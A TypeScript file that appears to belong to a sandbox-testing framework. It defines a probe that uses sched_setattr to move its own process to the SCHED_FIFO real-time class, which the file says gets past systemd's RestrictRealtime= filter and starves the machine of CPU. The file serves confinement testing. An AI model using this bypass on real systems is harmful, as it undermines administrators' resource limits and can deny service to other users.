/**
 * Moves the probe's own process to a real-time class by the younger of the two calls. Facts: sched_setattr(2), sched(7); that
 * RestrictRealtime= looks at the older one only: seccomp_restrict_realtime() in systemd's src/shared/seccomp-util.c.
 */
import { SCHEDULER_POLICIES } from "../../kernel/scheduler-policy.ts";
import { bytes, call, number, step } from "../act.ts";
import type { Probe } from "../probe.ts";
import { schedulingAttributes } from "./_scheduling.ts";

/** The attack: starve the machine by sched_setattr. */
export const runByAttributes: Probe = {
  id: "run-by-attributes",
  title: "run with real-time priority by sched_setattr",
  gain: "The processor for oneself, around filters that know only sched_setscheduler.",
  goals: ["switch-off", "use-up"],
  steps: () => [
    step(
      "schedule",
      call(
        "sched_setattr",
        number(0),
        bytes(schedulingAttributes({ policy: SCHEDULER_POLICIES.SCHED_FIFO, priority: 1 })),
        number(0),
      ),
      [{ kind: "real-time", policy: "SCHED_FIFO", priority: 1 }],
    ),
  ],
};
